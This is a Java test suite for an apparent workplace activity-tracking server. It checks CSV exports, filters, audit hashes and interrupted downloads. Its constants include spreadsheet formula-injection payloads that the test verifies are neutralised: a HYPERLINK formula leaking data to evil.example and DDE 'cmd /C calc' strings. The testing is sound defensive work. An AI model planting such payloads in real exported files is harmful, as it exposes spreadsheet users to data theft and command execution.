package com.xentracker.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.xentracker.core.activity.Activity;
import com.xentracker.core.activity.ActivityState;
import com.xentracker.core.activity.Span;
import com.xentracker.core.activity.WebPage;
import com.xentracker.core.policy.CollectionPolicy;
import com.xentracker.server.ServerFixture.EnrolledDevice;
import com.xentracker.server.access.Actor;
import com.xentracker.server.access.Role;
import com.xentracker.server.organization.CategoryRule;
import com.xentracker.server.organization.Organization;
import com.xentracker.testing.https.Https;
import com.xentracker.transport.pki.DeviceKeys;
import com.xentracker.transport.pki.Pem;
import com.xentracker.transport.wire.EnrollmentRequest;
import com.xentracker.transport.wire.EnrollmentResponse;
import com.xentracker.transport.wire.Routes;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The CSV exports through the real server, as a script fetches them with an API token: each dataset and filter read
 * back with an independent parser (Commons CSV) and compared with the database; hostile application names, titles
 * and domains neutralised and parsed back exactly; the audit entry's SHA-256 is that of the bytes the client got;
 * a download the client breaks off is recorded as such.
 */
class ExportTest {

    @RegisterExtension
    static final ServerFixture server = new ServerFixture(Instant.parse("2026-09-14T08:30:00Z"));

    private static final char[] PASSWORD = "correct horse battery staple".toCharArray();
    private static final ZoneId BERLIN = ZoneId.of("Europe/Berlin");
    private static final DateTimeFormatter TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSxxx");
    /** What a spreadsheet would evaluate, as applications, titles and domains. */
    private static final String FORMULA_APP = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private static final String PLUS_TITLE = "+1+2";
    private static final String CALC_TITLE = "-2+3 =cmd|' /C calc'!A0";
    private static final String AT_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String TAB_APP = "\tTabbed, \"quoted\"";
    private static final String CR_TITLE = "\rcarriage\nnew line";
    private static final String MINUS_DOMAIN = "-2+3.example";
    private static final String AT_DOMAIN = "@evil.example";

    private static Organization organization;
    private static UUID alice;
    private static UUID bob;
    private static UUID team;
    private static EnrolledDevice aliceDevice;
    private static EnrolledDevice bobDevice;
    private static String token;
    private static ExportClient client;

    @BeforeAll
    static void anOrganizationWithHostileData() {
        organization = server.newOrganization(BERLIN);
        Actor operator = server.operator(organization.id());
        server.services().organizations().updatePolicy(operator, new CollectionPolicy(0, true, List.of(), Set.of(),
                Optional.empty(), false, CollectionPolicy.DEFAULT_IDLE_THRESHOLD, false, true));
        UUID development = server.services().organizations().createCategory(operator, "Development").id();
        server.services().organizations().addCategoryRule(operator, development, CategoryRule.Kind.APPLICATION,
                "editor");
        UUID reading = server.services().organizations().createCategory(operator, "Reading").id();
        server.services().organizations().addCategoryRule(operator, reading, CategoryRule.Kind.DOMAIN,
                "docs.example");
        aliceDevice = enrollAs(organization, "alice");
        bobDevice = enrollAs(organization, "bob");
        // Alice on Sunday 13 September (Berlin), Bob on Monday the 14th
        upload(aliceDevice, 0,
                active("editor", "2026-09-13T07:00:00Z", "2026-09-13T07:30:00Z", "main.c"),
                active(FORMULA_APP, "2026-09-13T07:30:00Z", "2026-09-13T07:40:00.250Z", PLUS_TITLE),
                browsing("docs.example", "https://docs.example/a?b=1,2", "2026-09-13T07:40:00.250Z",
                        "2026-09-13T07:50:00Z", CALC_TITLE),
                browsing("sub.docs.example", "https://sub.docs.example/", "2026-09-13T07:50:00Z",
                        "2026-09-13T08:00:00Z", AT_TITLE),
                active(TAB_APP, "2026-09-13T08:00:00Z", "2026-09-13T08:05:00Z", CR_TITLE),
                browsing(MINUS_DOMAIN, "https://" + MINUS_DOMAIN + "/", "2026-09-13T08:05:00Z",
                        "2026-09-13T08:06:00Z", "minus"),
                Span.of(Instant.parse("2026-09-13T08:06:00Z"), Instant.parse("2026-09-13T08:10:00Z"),
                        Activity.of(ActivityState.IDLE)));
        upload(bobDevice, 0,
                active("Editor", "2026-09-14T06:00:00Z", "2026-09-14T06:20:00Z", "a \"quoted\", comma"),
                browsing(AT_DOMAIN, "https://" + AT_DOMAIN + "/", "2026-09-14T06:20:00Z", "2026-09-14T06:30:00Z",
                        "at"),
                browsing("news.example", "https://news.example/", "2026-09-14T06:30:00Z", "2026-09-14T06:40:00Z",
                        "news"));
        alice = person("alice");
        bob = person("bob");
        team = server.services().groups().create(operator, "Team").id();
        server.services().groups().addMember(operator, team, bob);
        String email = "auditor-" + UUID.randomUUID() + "@example.org";
        server.server().administration().createAccount(organization.id(), email, PASSWORD.clone(), Role.AUDITOR);
        Actor auditor = server.signIn(email, PASSWORD.clone()).orElseThrow();
        token = server.services().apiTokens().create(auditor, "export script", Duration.ofDays(30)).secret();
        client = ExportClient.of(server);
    }

    // --- the data as the database has it, and the CSV as a script reads it ----------------------------------

    /** A span as stored, with what the export adds. */
    private record StoredSpan(UUID person, UUID device, String application, String domain, String title, String url,
            String state, Instant start, Instant end) {

        String category() {
            if (!domain.isEmpty() && (domain.equals("docs.example") || domain.endsWith(".docs.example"))) {
                return "Reading";
            }
            return application.equalsIgnoreCase("editor") ? "Development" : "";
        }

        LocalDate day() {
            return start.atZone(BERLIN).toLocalDate();
        }

        List<String> cells() {
            String category = category();
            return List.of(person.toString(), name(person), device.toString(), "host-of-" + name(person).toLowerCase(
                            Locale.ROOT), neutral(application), neutral(domain), neutral(title), neutral(url),
                    category, category.isEmpty() ? "" : "neutral", state.toLowerCase(Locale.ROOT), time(start),
                    time(end), BigDecimal.valueOf(Duration.between(start, end).toMillis(), 3).toPlainString());
        }
    }

    private static String name(UUID person) {
        return person.equals(alice) ? "alice" : "bob";
    }

    /** What the export must make of a cell: the OWASP rule, written here independently of the server's. */
    private static String neutral(String cell) {
        if (cell.isEmpty()) {
            return cell;
        }
        return "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 ? "'" + cell : cell;
    }

    private static String time(Instant instant) {
        return TIME.format(instant.atZone(BERLIN));
    }

    private static List<StoredSpan> storedSpans() {
        return server.jdbi().withHandle(handle -> handle.createQuery("""
                        SELECT person_id, device_id, application, coalesce(domain, '') AS domain,
                               coalesce(title, '') AS title, coalesce(url, '') AS url, state, start_at, end_at
                        FROM spans WHERE organization_id = :organization ORDER BY start_at, device_id""")
                .bind("organization", organization.id())
                .map((rs, ctx) -> new StoredSpan(rs.getObject(1, UUID.class), rs.getObject(2, UUID.class),
                        rs.getString(3), rs.getString(4), rs.getString(5), rs.getString(6), rs.getString(7),
                        rs.getObject(8, OffsetDateTime.class).toInstant(),
                        rs.getObject(9, OffsetDateTime.class).toInstant()))
                .list());
    }

    private static List<List<String>> expectedSpans(Predicate<StoredSpan> filter) {
        return storedSpans().stream().filter(filter).map(StoredSpan::cells).toList();
    }

    private static ExportClient.Answer fetch(String file, String query) {
        ExportClient.Answer answer = client.get("/api/v1/exports/" + file + (query.isEmpty() ? "" : "?" + query),
                token);
        assertThat(answer.status()).as(new String(answer.body(), StandardCharsets.UTF_8)).isEqualTo(200);
        return answer;
    }

    /** The rows after the header, as Commons CSV reads them; the header is checked against {@code header}. */
    private static List<List<String>> rows(ExportClient.Answer answer, String... header) {
        try (CSVParser parser = CSVParser.parse(new String(answer.body(), StandardCharsets.UTF_8),
                CSVFormat.RFC4180)) {
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).isNotEmpty();
            assertThat(records.get(0).toList()).containsExactly(header);
            return records.subList(1, records.size()).stream().map(CSVRecord::toList).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static final String[] SPAN_HEADER = {"person_id", "person", "device_id", "device", "application",
            "domain", "title", "url", "category", "productivity", "state", "start", "end", "duration_seconds"};

    private static List<List<String>> spans(String query) {
        return rows(fetch("spans.csv", query), SPAN_HEADER);
    }

    // --- tests -------------------------------------------------------------------------------------------------

    @Test
    void spansMatchTheDatabaseCellForCellWithHostileCellsNeutralisedAndReadBackExactly() {
        List<List<String>> rows = spans("");

        assertThat(rows).hasSize(10).containsExactlyElementsOf(expectedSpans(span -> true));
        assertThat(rows).extracting(row -> row.get(4)).contains("'" + FORMULA_APP, "'" + TAB_APP, "editor");
        assertThat(rows).extracting(row -> row.get(6)).contains("'" + PLUS_TITLE, "'" + CALC_TITLE, "'" + AT_TITLE,
                "'" + CR_TITLE, "a \"quoted\", comma");
        assertThat(rows).extracting(row -> row.get(5)).contains("'" + MINUS_DOMAIN, "'" + AT_DOMAIN);
        // no cell of the file starts with what a spreadsheet evaluates
        assertThat(rows).flatExtracting(row -> row).allSatisfy(cell ->
                assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0).as(cell).isTrue());
    }

    @Test
    void eachFilterSelectsWhatTheDatabaseHolds() {
        Map<String, Predicate<StoredSpan>> filters = new LinkedHashMap<>();
        filters.put("person=" + alice, span -> span.person().equals(alice));
        filters.put("device=" + bobDevice.id(), span -> span.device().equals(bobDevice.id()));
        filters.put("group=" + team, span -> span.person().equals(bob));
        filters.put("from=2026-09-14", span -> !span.day().isBefore(LocalDate.parse("2026-09-14")));
        filters.put("to=2026-09-13", span -> !span.day().isAfter(LocalDate.parse("2026-09-13")));
        filters.put("from=2026-09-13&to=2026-09-13", span -> span.day().equals(LocalDate.parse("2026-09-13")));
        filters.put("application=EDITOR", span -> span.application().equalsIgnoreCase("editor"));
        filters.put("application=" + encode(FORMULA_APP), span -> span.application().equals(FORMULA_APP));
        filters.put("domain=docs.example", span -> span.category().equals("Reading"));
        filters.put("category=Development", span -> span.category().equals("Development"));
        filters.put("person=" + alice + "&category=Reading", span -> span.person().equals(alice)
                && span.category().equals("Reading"));
        filters.put("from=2026-10-01", span -> false);
        for (Map.Entry<String, Predicate<StoredSpan>> filter : filters.entrySet()) {
            assertThat(spans(filter.getKey())).as(filter.getKey())
                    .containsExactlyElementsOf(expectedSpans(filter.getValue()));
        }
        assertThat(spans("from=2026-10-01")).isEmpty();
        assertThat(spans("domain=docs.example")).hasSize(2);
    }

    @Test
    void rollupsAreTheDailyTotalsOfTheDatabasePerPersonApplicationSiteAndCategory() {
        Map<List<String>, long[]> totals = new LinkedHashMap<>();
        server.jdbi().useHandle(handle -> handle.createQuery("""
                        SELECT day::text, person_id::text, application, domain, category, active_ms, idle_ms,
                               locked_ms
                        FROM rollups WHERE organization_id = :organization
                        ORDER BY day, person_id::text, application, domain, category""")
                .bind("organization", organization.id())
                .map((rs, ctx) -> {
                    long[] sum = totals.computeIfAbsent(List.of(rs.getString(1), rs.getString(2), rs.getString(3),
                            rs.getString(4), rs.getString(5)), key -> new long[3]);
                    sum[0] += rs.getLong(6);
                    sum[1] += rs.getLong(7);
                    sum[2] += rs.getLong(8);
                    return sum;
                }).list());
        List<List<String>> expected = new ArrayList<>();
        totals.forEach((key, sum) -> expected.add(List.of(key.get(0), key.get(1), name(UUID.fromString(key.get(1))),
                neutral(key.get(2)), neutral(key.get(3)), key.get(4), key.get(4).isEmpty() ? "" : "neutral",
                seconds(sum[0]), seconds(sum[1]), seconds(sum[2]))));

        List<List<String>> rows = rows(fetch("rollups.csv", ""), "day", "person_id", "person", "application",
                "domain", "category", "productivity", "active_seconds", "idle_seconds", "locked_seconds");

        assertThat(rows).isNotEmpty().containsExactlyInAnyOrderElementsOf(expected);
        assertThat(rows(fetch("rollups.csv", "person=" + bob + "&category=Development"), "day", "person_id", "person",
                "application", "domain", "category", "productivity", "active_seconds", "idle_seconds",
                "locked_seconds")).containsExactly(List.of("2026-09-14", bob.toString(), "bob", "Editor", "",
                "Development", "neutral", "1200.000", "0.000", "0.000"));
    }

    private static String seconds(long millis) {
        return BigDecimal.valueOf(millis, 3).toPlainString();
    }

    @Test
    void devicesPeopleAndGroupsAreTheDirectoryAsItIs() {
        List<List<String>> devices = rows(fetch("devices.csv", ""), "device_id", "number", "hostname",
                "operating_system", "os_user", "agent_version", "enrolled_at", "revoked_at", "last_span_end",
                "person_ids");
        assertThat(devices).extracting(row -> row.get(0)).containsExactlyInAnyOrder(aliceDevice.id().toString(),
                bobDevice.id().toString());
        assertThat(devices).filteredOn(row -> row.get(0).equals(bobDevice.id().toString())).singleElement()
                .satisfies(row -> {
                    assertThat(row.get(2)).isEqualTo("host-of-bob");
                    assertThat(row.get(4)).isEqualTo("bob");
                    assertThat(row.get(7)).isEmpty();
                    assertThat(row.get(8)).isEqualTo("2026-09-14T08:40:00.000+02:00");
                    assertThat(row.get(9)).isEqualTo(bob.toString());
                });
        assertThat(rows(fetch("devices.csv", "person=" + alice), devicesHeader()))
                .extracting(row -> row.get(0)).containsExactly(aliceDevice.id().toString());

        List<List<String>> people = rows(fetch("people.csv", ""), "person_id", "person", "login", "created_at",
                "groups", "devices");
        assertThat(people).extracting(row -> row.get(0) + " " + row.get(1) + " " + row.get(4) + " " + row.get(5))
                .containsExactly(alice + " alice  1", bob + " bob Team 1");
        assertThat(rows(fetch("people.csv", "group=" + team), "person_id", "person", "login", "created_at", "groups",
                "devices")).extracting(row -> row.get(0)).containsExactly(bob.toString());

        assertThat(rows(fetch("groups.csv", ""), "group_id", "group", "person_id", "person"))
                .containsExactly(List.of(team.toString(), "Team", bob.toString(), "bob"));
        assertThat(rows(fetch("groups.csv", "person=" + alice), "group_id", "group", "person_id", "person"))
                .isEmpty();
    }

    private static String[] devicesHeader() {
        return new String[] {"device_id", "number", "hostname", "operating_system", "os_user", "agent_version",
                "enrolled_at", "revoked_at", "last_span_end", "person_ids"};
    }

    @Test
    void theAuditLogExportHasEveryEntryOfTheOrganizationInOrder() {
        List<String> sequences = server.jdbi().withHandle(handle -> handle.createQuery("""
                        SELECT l.seq::text FROM audit_log l WHERE l.organization_id = :organization
                        ORDER BY l.seq""")
                .bind("organization", organization.id()).mapTo(String.class).list());

        List<List<String>> rows = rows(fetch("audit.csv", ""), "sequence", "occurred_at", "actor_kind",
                "actor_account_id", "actor", "action", "subject_person_id", "subject_device_id", "subject", "outcome");

        // the export's own entry is written after the rows were read: every entry before it is there
        assertThat(rows).extracting(row -> row.get(0)).containsExactlyElementsOf(sequences);
        assertThat(rows).extracting(row -> row.get(5)).contains("create-category", "export-data");
    }

    @Test
    void theAuditEntryNamesTheRowsAndTheSha256OfExactlyTheBytesTheClientReceived() throws Exception {
        ExportClient.Answer answer = fetch("spans.csv", "person=" + alice + "&bom=true");

        String sha256 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(answer.body()));
        assertThat(answer.body()).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(answer.contentType()).isEqualTo("text/csv; charset=utf-8");
        assertThat(answer.disposition()).contains("attachment; filename=\"spans.csv\"");
        Map<String, Object> entry = lastEntry("export-data");
        assertThat(entry.get("outcome")).isEqualTo("SUCCESS");
        assertThat(entry.get("subject_person_id")).isEqualTo(alice);
        assertThat((String) entry.get("subject")).contains("spans.csv", "person " + alice,
                "7 rows, " + answer.body().length + " bytes, sha256 " + sha256);
    }

    @Test
    void aDownloadBrokenOffHalfWayIsRecordedAsInterruptedWithHowFarItGot() throws Exception {
        // far more than the socket buffers and the server's output buffer hold, so the server notices
        Organization big = server.newOrganization(BERLIN);
        EnrolledDevice device = server.enroll(big);
        UUID person = server.services().people().create(server.operator(big.id()), "Bulk").id();
        int rows = 50_000;
        server.jdbi().useHandle(handle -> handle.createUpdate("""
                        INSERT INTO spans (organization_id, device_id, person_id, batch_sequence, start_at, end_at,
                                           state, application, executable, title)
                        SELECT :organization, :device, :person, 0,
                               TIMESTAMPTZ '2026-09-01 00:00:00Z' + n * INTERVAL '1 second',
                               TIMESTAMPTZ '2026-09-01 00:00:01Z' + n * INTERVAL '1 second', 'ACTIVE',
                               'application ' || n, '/usr/bin/application', repeat('title ', 20)
                        FROM generate_series(1, :rows) AS n""")
                .bind("organization", big.id()).bind("device", device.id()).bind("person", person)
                .bind("rows", rows).execute());
        String email = "owner-" + UUID.randomUUID() + "@example.org";
        server.server().administration().createAccount(big.id(), email, PASSWORD.clone(), Role.OWNER);
        String bigToken = server.services().apiTokens().create(server.signIn(email, PASSWORD.clone()).orElseThrow(),
                "bulk", Duration.ofDays(1)).secret();

        client.readPartAndHangUp("/api/v1/exports/spans.csv", bigToken, 64 * 1024);

        Map<String, Object> entry = awaitEntry(big, "FAILED");
        String subject = (String) entry.get("subject");
        assertThat(subject).contains("spans.csv", "interrupted by the client after");
        long sentRows = Long.parseLong(subject.replaceAll(".*after (\\d+) rows.*", "$1"));
        long sentBytes = Long.parseLong(subject.replaceAll(".* rows, (\\d+) bytes.*", "$1"));
        assertThat(sentRows).isBetween(1L, rows - 1L);
        assertThat(sentBytes).isGreaterThanOrEqualTo(64 * 1024);
        assertThat(server.count("SELECT count(*) FROM audit_log WHERE organization_id = ? AND action = 'export-data'"
                + " AND outcome = 'SUCCESS'", big.id())).isZero();
    }

    @Test
    void anUnknownDatasetOrAnotherOrganizationsPersonIsNotFoundAndABadFilterIsRefused() {
        Organization other = server.newOrganization();
        UUID stranger = server.services().people().create(server.operator(other.id()), "Stranger").id();

        assertThat(client.get("/api/v1/exports/passwords.csv", token).status()).isEqualTo(404);
        assertThat(client.get("/api/v1/exports/spans.json", token).status()).isEqualTo(404);
        ExportClient.Answer foreign = client.get("/api/v1/exports/spans.csv?person=" + stranger, token);
        assertThat(foreign.status()).isEqualTo(404);
        assertThat(new String(foreign.body(), StandardCharsets.UTF_8)).contains("\"code\":\"not-found\"");
        assertThat(client.get("/api/v1/exports/spans.csv?from=yesterday", token).status()).isEqualTo(400);
        assertThat(client.get("/api/v1/exports/spans.csv?from=2026-09-14&to=2026-09-13", token).status())
                .isEqualTo(400);
        assertThat(client.get("/api/v1/exports/spans.csv?person=not-an-id", token).status()).isEqualTo(400);
        assertThat(lastEntry("export-data").get("outcome")).isEqualTo("FAILED");
    }

    // --- helpers -----------------------------------------------------------------------------------------------

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static Map<String, Object> lastEntry(String action) {
        return server.jdbi().withHandle(handle -> handle.createQuery("""
                        SELECT outcome, subject, subject_person_id FROM audit_log
                        WHERE organization_id = :organization AND action = :action ORDER BY seq DESC LIMIT 1""")
                .bind("organization", organization.id()).bind("action", action).mapToMap().one());
    }

    private static Map<String, Object> awaitEntry(Organization in, String outcome) throws InterruptedException {
        for (int i = 0; i < 300; i++) {
            Optional<Map<String, Object>> entry = server.jdbi().withHandle(handle -> handle.createQuery("""
                            SELECT outcome, subject FROM audit_log
                            WHERE organization_id = :organization AND action = 'export-data' AND outcome = :outcome""")
                    .bind("organization", in.id()).bind("outcome", outcome).mapToMap().findOne());
            if (entry.isPresent()) {
                return entry.get();
            }
            Thread.sleep(100);
        }
        throw new AssertionError("no " + outcome + " export entry within 30 s");
    }

    private static UUID person(String login) {
        return server.jdbi().withHandle(handle -> handle.createQuery(
                        "SELECT id FROM people WHERE organization_id = :organization AND login = :login")
                .bind("organization", organization.id()).bind("login", login).mapTo(UUID.class).one());
    }

    private static Span active(String application, String from, String to, String title) {
        return Span.of(Instant.parse(from), Instant.parse(to), Activity.active(application, "/usr/bin/app",
                Optional.of(title)));
    }

    private static Span browsing(String domain, String url, String from, String to, String title) {
        return Span.of(Instant.parse(from), Instant.parse(to), Activity.active("chromium", "/usr/lib/chromium",
                Optional.of(title)).withPage(WebPage.of(domain, url)));
    }

    private static void upload(EnrolledDevice device, long sequence, Span... spans) {
        Https.Response response = server.upload(device, sequence, List.of(spans));
        assertThat(response.status()).as(response.text()).isEqualTo(200);
    }

    private static EnrolledDevice enrollAs(Organization in, String osUser) {
        KeyPair keys = DeviceKeys.generate();
        EnrollmentRequest request = new EnrollmentRequest(server.token(in).token(),
                Pem.encodePublicKey(keys.getPublic()), "host-of-" + osUser, "Linux 6.1", osUser, "0.1.0-test");
        Https.Response response = server.https().post(Routes.ENROLL, "application/json",
                server.codec().encode(request));
        assertThat(response.status()).as(response.text()).isEqualTo(200);
        return new EnrolledDevice(keys, server.codec().decode(response.body(), EnrollmentResponse.class));
    }

    static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
